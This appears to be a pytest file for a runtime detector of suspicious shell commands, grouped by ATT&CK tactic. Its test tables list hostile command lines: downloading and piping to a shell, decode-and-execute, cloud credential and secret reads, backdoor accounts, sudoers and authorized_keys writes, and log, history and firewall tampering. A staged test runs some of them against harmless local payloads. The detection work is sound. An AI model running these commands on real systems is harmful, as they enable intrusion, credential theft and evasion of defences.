"""*/Runtime/SuspiciousCommand: the pattern file's loader, each tactic's shapes, and commands really run in the task.

The table tests run the detector on command lines (pure pattern logic); the staged test runs real commands in the
emulated task through the sidecar, including a pipeline typed at a prompt (`curl ... | sh` read by an interactive
shell from its stdin), which no single process holds.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from findings import container_of, context_of
from taskenv import SidecarHandle, TaskEnv

from collectors.events import ProcessInfo, RuntimeEvent
from collectors.process_table import ProcessTable
from detectors.base import DetectorContext
from detectors.commands import SuspiciousCommandDetector, command_catalog, parse_commands
from detectors.finding import Finding
from detectors.tools import CatalogError

EXE = {"sh": "/usr/bin/dash", "python3": "/usr/bin/python3.11", "perl": "/usr/bin/perl"}


def proc(cl: str, pid: int, parent_uuid: str = "parent") -> ProcessInfo:
    first = cl.split(maxsplit=1)[0]
    exe = EXE.get(first, "/usr/bin/" + first.rsplit("/", 1)[-1])
    return ProcessInfo(
        pid=pid, nspid=pid, ppid=1, name=first.rsplit("/", 1)[-1][:15], executable_path=exe,
        executable_deleted=False, executable_sha256=None, command_line=cl, cwd="/", uid=0, euid=0, gid=0, egid=0,
        user="root", euser="root", start_ticks=pid, start_time=1000.0 + pid, uuid=f"u{pid}",
        parent_uuid=parent_uuid, ld_preload=None, ld_library_path=None, container=None, mnt_ns=None,
    )  # fmt: skip


E, D, P, PE, DE = "Execution", "Discovery", "Persistence", "PrivilegeEscalation", "DefenseEvasion"
BAD: list[tuple[str, str, str]] = [
    ("sh -c curl -fsSL http://x.example/i.sh | sh", E, "download_pipe_to_shell"),
    ("sh -c wget -q -O- http://x/y | bash -s", E, "download_pipe_to_shell"),
    ("sh -c curl http://x | sudo bash", E, "download_pipe_to_shell"),
    ('sh -c bash -c "$(curl -fsSL http://x)"', E, "download_subshell_exec"),
    ("sh -c bash <(curl -s http://x)", E, "download_subshell_exec"),
    ("sh -c wget -O /tmp/x http://h/x; chmod +x /tmp/x; /tmp/x", E, "download_chmod_execute"),
    ("sh -c cd /tmp && curl -o kw http://h/kw && chmod 755 kw && ./kw", E, "download_chmod_execute"),
    ("python3 -c import urllib.request;exec(urllib.request.urlopen('http://x').read())", E, "interpreter_fetch_exec"),
    ('perl -e use LWP::Simple; eval(get("http://x/a"))', E, "interpreter_fetch_exec"),
    ("sh -c echo ZWNobyBoaQ== | base64 -d | sh", E, "decode_pipe_to_shell"),
    ("sh -c echo ZWNobyBoaQ== | base64 --decode | bash", E, "decode_pipe_to_shell"),
    ("sh -c echo 6964 | xxd -r -p | sh", E, "decode_pipe_to_shell"),
    ('sh -c eval "$(echo aWQ= | base64 -d)"', E, "decode_subshell_exec"),
    ("python3 -c exec(base64.b64decode('cHJpbnQoMSk='))", E, "interpreter_decode_exec"),
    ("python3 -c exec(__import__('base64').b64decode('cHJpbnQoMSk='))", E, "interpreter_decode_exec"),
    ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", D, "cloud_metadata_credentials"),
    ("sh -c curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", D, "cloud_metadata_credentials"),
    ("aws sts get-caller-identity", D, "aws_cli_recon"),
    ("aws secretsmanager get-secret-value --secret-id prod/db", D, "aws_cli_recon"),
    ("cat /root/.aws/credentials", D, "credential_file_read"),
    ("cat /proc/1/environ", D, "proc_environ_dump"),
    ("sh -c cat /proc/*/environ", D, "proc_environ_dump"),
    ("find / -name id_rsa", D, "private_key_search"),
    ("grep -rE AKIA[0-9A-Z]{16} /", D, "secret_grep"),
    ("capsh --print", D, "container_discovery"),
    ("cat /proc/1/cgroup", D, "container_discovery"),
    ("sh -c mount | grep overlay", D, "container_discovery"),
    ("crontab /tmp/cron", P, "crontab_install"),
    ("sh -c echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", P, "authorized_keys_write"),
    ("useradd -m -s /bin/bash backdoor", P, "account_created"),
    ("usermod -aG sudo bob", P, "privileged_group_added"),
    ("systemctl enable evil.service", P, "service_persistence"),
    ("sh -c echo /tmp/x >> /etc/rc.local", P, "service_persistence"),
    ("chmod u+s /tmp/x", PE, "setuid_bit_set"),
    ("chmod 4755 /tmp/x", PE, "setuid_bit_set"),
    ("sh -c cp /bin/sleep /tmp/h && chmod u+s /tmp/h", PE, "setuid_bit_set"),  # a simple command of the text
    ("sudo -n chmod 4755 /tmp/h", PE, "setuid_bit_set"),
    ("sh -c (crontab -l; echo '* * * * * /tmp/x') | crontab -", P, "crontab_install"),
    ("setcap cap_setuid+ep /usr/bin/python3", PE, "dangerous_capability_set"),
    ("find / -perm -4000 -type f", PE, "setuid_search"),
    ("sudo -l", PE, "sudo_list"),
    ('sh -c echo "bob ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers', PE, "sudoers_write"),
    ("sh -c history -c", DE, "history_tampering"),
    ("sh -c unset HISTFILE; id", DE, "history_tampering"),
    ("ln -sf /dev/null /root/.bash_history", DE, "history_tampering"),
    ("sh -c cat /dev/null > /var/log/syslog", DE, "log_tampering"),
    ("truncate -s 0 /var/log/messages", DE, "log_tampering"),
    ("journalctl --vacuum-time=1s", DE, "log_tampering"),
    ("rm -rf /var/log/*", DE, "log_deletion"),
    ("iptables -F", DE, "firewall_disabled"),
    ("iptables -P INPUT ACCEPT", DE, "firewall_disabled"),
    ("ufw disable", DE, "firewall_disabled"),
    ("systemctl stop firewalld", DE, "firewall_disabled"),
    ("setenforce 0", DE, "firewall_disabled"),
    ("sh -c echo /tmp/evil.so > /etc/ld.so.preload", DE, "ld_preload_takeover"),
    ("sh -c export LD_PRELOAD=/tmp/evil.so; ls", DE, "ld_preload_takeover"),
    ("systemctl stop auditd", DE, "security_service_stopped"),
]
GOOD = [
    "sh -c for i in 1 2 3; do echo $i | wc -c; done",
    "curl -f http://localhost/health",
    "wget -q -O- http://example.com/x",
    "sh -c wget -q -O- http://example.com/x > /tmp/out",
    "sh -c echo hello | base64",
    "sh -c chmod +x build/app && ./build/app --version",
    "chmod +x /tmp/build/a.out",
    "crontab -l",
    'sh -c exec nginx -g "daemon off;"',
    'sh -c curl -s http://api/x | python3 -c "import sys,json; print(json.load(sys.stdin))"',
    "sh -c curl -s http://api/x | python3 -m json.tool",
    "sh -c curl -s http://api/x | sha256sum",
    "grep nmap notes.txt",
    "apt-cache show iptables",
    "chmod 2775 /shared",
    "setcap cap_net_bind_service=+ep /usr/bin/node",
    "sh -c LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 python3 app.py",
    "sh -c exec app > /var/log/app.log 2>&1",
    "sh -c app >> /var/log/app.log",
    "rm /var/log/app/app.log.1",
    "sh -c echo $AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    "curl http://169.254.170.2/v4/metadata",
    "find /app -name *.py",
    "grep -n password_reset app.py",
    "cp /root/.ssh/authorized_keys /backup/",
    "iptables -L -n",
    "systemctl restart nginx",
    "useradd --help",
    'python3 -c import base64; print(base64.b64encode(b"x"))',
]


def detect(detector: SuspiciousCommandDetector, info: ProcessInfo) -> list[tuple[str, str]]:
    return [(d.type.split(":")[0], d.key[0]) for d in detector.on_event(RuntimeEvent("process.exec", info))]


@pytest.mark.parametrize(("cl", "tactic", "pattern"), BAD, ids=[b[0][:48] for b in BAD])
def test_each_pattern_fires(cl: str, tactic: str, pattern: str) -> None:
    det = SuspiciousCommandDetector(DetectorContext(table=ProcessTable()))
    assert detect(det, proc(cl, 100)) == [(tactic, pattern)]


@pytest.mark.parametrize("cl", GOOD, ids=[g[:48] for g in GOOD])
def test_benign_commands_do_not_fire(cl: str) -> None:
    det = SuspiciousCommandDetector(DetectorContext(table=ProcessTable()))
    assert detect(det, proc(cl, 100)) == []


def test_levels_follow_the_catalog() -> None:
    by_name = command_catalog().by_name
    assert by_name["download_pipe_to_shell"].level == "high"
    assert by_name["history_tampering"].level == "medium"
    assert by_name["security_service_stopped"].level == "low"
    assert by_name["crontab_install"].level is None


def test_one_command_one_finding() -> None:
    """`sh -c "cat /proc/*/environ"` then its cat child: the child is not reported again under that pattern."""
    det = SuspiciousCommandDetector(DetectorContext(table=ProcessTable()))
    assert detect(det, proc("sh -c strings /proc/*/environ", 10)) == [("Discovery", "proc_environ_dump")]
    assert detect(det, proc("strings /proc/1/environ /proc/7/environ", 11, parent_uuid="u10")) == []
    # a simple command inside the text: its program's own exec is covered too
    assert detect(det, proc("sh -c cp /bin/sleep /tmp/h && chmod u+s /tmp/h", 20)) == [
        ("PrivilegeEscalation", "setuid_bit_set")
    ]
    assert detect(det, proc("chmod u+s /tmp/h", 21, parent_uuid="u20")) == []
    # the same program from somewhere else is its own finding
    assert detect(det, proc("strings /proc/1/environ", 12, parent_uuid="other")) == [("Discovery", "proc_environ_dump")]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('[[pattern]]\nname = "x"\ntype = "Execution:Runtime/SuspiciousCommand"\nmitre = "T1059"\ntactic = "t"\n'
         'shell = ["a"]\n', "pattern #1 (x): Execution:Runtime/SuspiciousCommand needs a level, one of high, low"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/SuspiciousCommand"\nlevel = "high"\nmitre = "T1082"\n'
         'tactic = "t"\nshell = ["a"]\n', "Discovery:Runtime/SuspiciousCommand has one severity; remove level 'high'"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/Nope"\nmitre = "T1082"\ntactic = "t"\nshell = ["a"]\n',
         "type 'Discovery:Runtime/Nope' is not one of"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/SuspiciousCommand"\nmitre = "1082"\ntactic = "t"\n'
         'shell = ["a"]\n', "mitre '1082' is not an ATT&CK technique id"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/SuspiciousCommand"\nmitre = "T1082"\ntactic = "t"\n',
         "pattern #1 (x): needs shell regexes, program names or both"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/SuspiciousCommand"\nmitre = "T1082"\ntactic = "t"\n'
         'shell = ["(a"]\n', "pattern #1 (x): shell regex '(a' does not compile"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/SuspiciousCommand"\nmitre = "T1082"\ntactic = "t"\n'
         'args = ["a"]\nshell = ["a"]\n', "pattern #1 (x): args given without program"),
        ('[[pattern]]\nname = "x"\ntype = "Discovery:Runtime/SuspiciousCommand"\nmitre = "T1082"\ntactic = "t"\n'
         'shell = ["a"]\nparent = "mum"\n', "parent 'mum' is not one of noninteractive, shell"),
        ("[pipeline]\nwindow_seconds = 99\n", "[pipeline]: window_seconds must be a number in (0, 30]"),
        ("[pipeline]\n", "the pipeline needs a pattern named 'download_pipe_to_shell'"),
    ],
)  # fmt: skip
def test_pattern_file_validation(text: str, message: str) -> None:
    with pytest.raises(CatalogError) as info:
        parse_commands(text, "c.toml")
    assert message in str(info.value) and str(info.value).startswith("c.toml")


# -- staged in the emulated task ----------------------------------------------------------------------------------

TYPE_OF = {
    "download_pipe_to_shell": ("Execution:Runtime/SuspiciousCommand", 8.0),
    "decode_pipe_to_shell": ("Execution:Runtime/SuspiciousCommand", 8.0),
    "private_key_search": ("Discovery:Runtime/SuspiciousCommand", 2.0),
    "authorized_keys_write": ("Persistence:Runtime/SuspiciousCommand", 5.0),
    "setuid_bit_set": ("PrivilegeEscalation:Runtime/SuspiciousCommand", 5.0),
    "history_tampering": ("DefenseEvasion:Runtime/SuspiciousCommand", 5.0),
    "firewall_disabled": ("DefenseEvasion:Runtime/SuspiciousCommand", 8.0),
}


def command_findings(sidecar: SidecarHandle) -> list[dict[str, Any]]:
    return [f for f in sidecar.findings() if f["type"].endswith("Runtime/SuspiciousCommand")]


def pattern_is(name: str, container: str) -> Callable[[dict[str, Any]], bool]:
    return lambda f: (
        f["type"].endswith("/SuspiciousCommand")
        and context_of(f).get("patternName") == name
        and (container_of(f) == container)
    )


def exec_containing(text: str) -> Callable[[dict[str, Any]], bool]:
    return lambda e: e["kind"] == "process.exec" and text in (e["process"]["commandLine"] or "")


def test_commands_staged_in_the_task(task_env: TaskEnv, tmp_path: Path) -> None:
    for c in ("app", "worker"):
        task_env.path_in(c, "/tmp/p.sh").write_text("echo payload ran\n")
    sidecar = task_env.start_detecting(tmp_path)
    run = task_env.run
    # one-shot download-and-execute: the sh -c holds the whole line
    assert run("app", ["sh", "-c", "curl -s file:///tmp/p.sh | sh"]) == (0, "payload ran\n")
    # the same typed at a prompt: an interactive shell reading its stdin forks curl and sh as siblings
    assert run("worker", ["sh"], stdin="curl -s file:///tmp/p.sh | sh\n") == (0, "payload ran\n")
    # decode-and-execute
    assert run("app", ["sh", "-c", "echo ZWNobyBkZWNvZGVkCg== | base64 -d | sh"]) == (0, "decoded\n")
    run("app", ["sh", "-c", "find /root /home -name id_rsa; true"])
    run("app", ["sh", "-c", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3 test' >> /root/.ssh/authorized_keys"])
    run("app", ["sh", "-c", "cp /bin/sleep /tmp/helper && chmod u+s /tmp/helper"])
    run("app", ["sh", "-c", "unset HISTFILE; sleep 0.2"])
    # a firewall tool that is not installed: a script under its name
    task_env.path_in("app", "/tmp/ufw").write_text("#!/bin/sh\nsleep 0.3\n")
    run("app", ["sh", "-c", "chmod +x /tmp/ufw && /tmp/ufw disable"])

    found = {name: sidecar.wait_for_finding(pattern_is(name, "app"), timeout=20) for name in TYPE_OF}
    prompt = sidecar.wait_for_finding(pattern_is("download_pipe_to_shell", "worker"), timeout=20)
    for name, f in found.items():
        Finding.model_validate(f)
        assert (f["type"], f["severity"]) == TYPE_OF[name], name
    assert context_of(found["download_pipe_to_shell"])["commandLineExample"] == "sh -c curl -s file:///tmp/p.sh | sh"
    assert context_of(found["decode_pipe_to_shell"])["commandLineExample"].endswith("| base64 -d | sh")
    assert context_of(prompt)["commandLineExample"] == "curl -s file:///tmp/p.sh | sh"
    assert prompt["severity"] == 8.0
    assert prompt["service"]["runtimeDetails"]["process"]["executablePath"] == "/usr/bin/dash"
    assert (
        context_of(found["setuid_bit_set"])["commandLineExample"]
        == "sh -c cp /bin/sleep /tmp/helper && chmod u+s /tmp/helper"
    )
    assert context_of(found["firewall_disabled"])["commandLineExample"] == "sh -c chmod +x /tmp/ufw && /tmp/ufw disable"

    # benign look-alikes, in "worker" (where only the prompt pipeline fired). Each ends with a marker sleep: a
    # short-lived program can exit before the process poller reads it, the shell that ran it (and the marker) cannot.
    benign: list[tuple[list[str], str | None]] = [
        (["sh", "-c", "for i in 1 2 3; do echo $i | wc -c; done"], None),
        (["sh", "-c", "curl -sf http://127.0.0.1:9/health || true"], None),
        (["sh", "-c", "curl -s file:///tmp/p.sh > /tmp/copy.sh"], None),
        (["sh", "-c", "echo hello | base64"], None),
        (["sh", "-c", "cp /bin/true /tmp/a.out && chmod +x /tmp/a.out && /tmp/a.out"], None),
        (["sh", "-c", "tar czf /tmp/etc.tgz -C / etc && git --version"], None),
        # at a prompt: a download to a file, then a local file piped into sh
        (["sh"], "curl -s file:///tmp/p.sh > /tmp/o.sh; cat /tmp/o.sh | sh\n"),
        (["sh"], "cat /tmp/p.sh | sh\n"),
        (["sh", "-c", "chmod 2775 /tmp"], None),
        (["sh", "-c", "grep -r 'curl.*sh' /tmp/p.sh"], None),
    ]
    for n, (argv, stdin) in enumerate(benign):
        marker = f"sleep 0.2{n}"
        if stdin is not None:
            run("worker", argv, stdin=stdin + marker + "\n")
        else:
            run("worker", [*argv[:-1], f"{argv[-1]}; {marker}"])
        sidecar.wait_for_event(exec_containing(marker), timeout=15)
    time.sleep(1.5)
    worker = {
        (f["type"], context_of(f)["patternName"]) for f in command_findings(sidecar) if container_of(f) == "worker"
    }
    assert worker == {("Execution:Runtime/SuspiciousCommand", "download_pipe_to_shell")}
    app = {context_of(f)["patternName"] for f in command_findings(sidecar) if container_of(f) == "app"}
    assert app == set(TYPE_OF)
    assert sidecar.stop() == 0
